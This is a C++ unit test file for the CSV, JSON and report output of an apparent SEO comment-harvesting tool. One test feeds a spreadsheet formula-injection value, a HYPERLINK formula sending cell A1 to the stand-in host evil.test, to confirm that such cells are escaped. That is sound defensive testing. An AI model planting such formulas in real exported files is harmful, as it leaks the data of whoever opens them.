// The CSV, JSON and report a harvest writes, read from the column table.
#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "liverun/LiveColumns.h"
#include "liverun/LiveOutput.h"

namespace halvane::liverun {
namespace {

TLiveResult Result(std::string keyword, std::optional<int> authority, std::string url, bool open,
                   std::optional<std::string> anchor, std::optional<std::uint32_t> rank) {
  TLiveResult result;
  result.Keyword = std::move(keyword);
  result.AuthorityAwaited = false;
  result.Authority = authority;
  result.Url = std::move(url);
  result.CommentsOpen = open;
  result.HasYourLink = anchor.has_value();
  result.Anchor = std::move(anchor);
  result.TrafficRank = rank;
  return result;
}

TEST(LiveOutput, WritesCsvAndJsonByteForByte) {
  TLiveTable table;
  table.WithKeyword = true;
  table.Results.push_back(Result("a \"b\"", 3, "https://x.org/1", true, "Say, \"hi\"", 12345));
  table.Results.back().CommentLinks = pagetest::TCommentLinks::Followed;
  table.Results.push_back(Result("k", std::nullopt, "http://y.org/", false, std::nullopt, std::nullopt));
  EXPECT_EQ(LiveCsvText(table),
            "\"Keyword\",\"Authority\",\"URL\",\"Comments\",\"Comment Links\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n"
            "\"a \"\"b\"\"\",\"3\",\"https://x.org/1\",\"Open\",\"Followed\",\"Yes\",\"Say, \"\"hi\"\"\",\"12,345\"\r\n"
            "\"k\",\"-\",\"http://y.org/\",\"Closed\",\"None yet\",\"No\",\"-\",\"-\"\r\n");
  table.Results[0].Anchor = "bad \xff byte";
  EXPECT_EQ(LiveJsonText(table),
            "[\n  {\n    \"keyword\": \"a \\\"b\\\"\",\n    \"authority\": 3,\n"
            "    \"url\": \"https://x.org/1\",\n    \"comments\": \"open\",\n    \"comment_links\": \"followed\",\n    \"has_your_link\": true,\n"
            "    \"anchor\": \"bad \xEF\xBF\xBD byte\",\n    \"traffic_rank\": 12345\n  },\n"
            "  {\n    \"keyword\": \"k\",\n    \"authority\": null,\n    \"url\": \"http://y.org/\",\n"
            "    \"comments\": \"closed\",\n    \"comment_links\": \"none\",\n    \"has_your_link\": false,\n    \"anchor\": null,\n"
            "    \"traffic_rank\": null\n  }\n]\n");
  EXPECT_EQ(LiveJsonText(TLiveTable{}), "[]\n");
}

// The column table decides text, order and JSON alike: numbers sort as
// numbers (unknown as 0), an awaited authority is an empty cell, and an
// anchor shows only with the user's link.
TEST(LiveColumns, CellsAndOrderComeFromTheFigures) {
  TLiveResult high = Result("k", 10, "https://a.org/", true, std::nullopt, 1000000);
  TLiveResult low = Result("k", 9, "https://b.org/", true, std::nullopt, 999);
  const auto bytes = [](std::string_view a, std::string_view b) { return a.compare(b); };
  EXPECT_GT(CompareLiveResults(high, low, kLiveAuthority, bytes), 0);
  EXPECT_GT(CompareLiveResults(high, low, kLiveTrafficRank, bytes), 0);
  EXPECT_LT(CompareLiveResults(high, low, kLiveUrl, bytes), 0);
  low.Authority.reset();
  EXPECT_GT(CompareLiveResults(high, low, kLiveAuthority, bytes), 0);
  EXPECT_EQ(LiveCellText(high, kLiveTrafficRank), "1,000,000");
  TLiveResult waiting;
  EXPECT_EQ(LiveCellText(waiting, kLiveAuthority), "");
  waiting.AuthorityAwaited = false;
  EXPECT_EQ(LiveCellText(waiting, kLiveAuthority), "-");
  waiting.Anchor = "text without the link";
  EXPECT_EQ(LiveCellText(waiting, kLiveAnchorName), "-");
  EXPECT_EQ(LiveCellText(waiting, kLiveColumnCount), "");
}

TEST(LiveOutput, CsvCellsThatASpreadsheetWouldRunAreQuoted) {
  TLiveTable table;
  table.Results.push_back(
      Result("k", std::nullopt, "https://x.org/", true, "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"x\")", std::nullopt));
  for (const char* anchor : {"+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b"}) {
    table.Results.push_back(Result("k", 3, "https://x.org/", false, anchor, std::nullopt));
  }
  EXPECT_EQ(LiveCsvText(table),
            "\"Authority\",\"URL\",\"Comments\",\"Comment Links\",\"Has Your Link\",\"Anchor Name\",\"Traffic Rank\"\r\n"
            "\"-\",\"https://x.org/\",\"Open\",\"None yet\",\"Yes\",\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1,\"\"x\"\")\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'+1\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'-2\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'@SUM(A1)\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'\tx\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"'\rx\",\"-\"\r\n"
            "\"3\",\"https://x.org/\",\"Closed\",\"None yet\",\"Yes\",\"a=b\",\"-\"\r\n");
  // The keyword and the address are the user's and the engine's: the same rule.
  table.WithKeyword = true;
  table.Results = {Result("-k", std::nullopt, "=x", true, std::nullopt, std::nullopt)};
  EXPECT_EQ(LiveCsvText(table).substr(LiveCsvText(table).find("\r\n") + 2),
            "\"'-k\",\"-\",\"'=x\",\"Open\",\"None yet\",\"No\",\"-\",\"-\"\r\n");
  // The report's addresses come from the search engine and the pages.
  EXPECT_EQ(PageReportText({{"k", "=a", "@b", "failed: -"}}, false),
            "\"Address\",\"Final Address\",\"Result\"\r\n\"'=a\",\"'@b\",\"failed: -\"\r\n");
}

}  // namespace
}  // namespace halvane::liverun
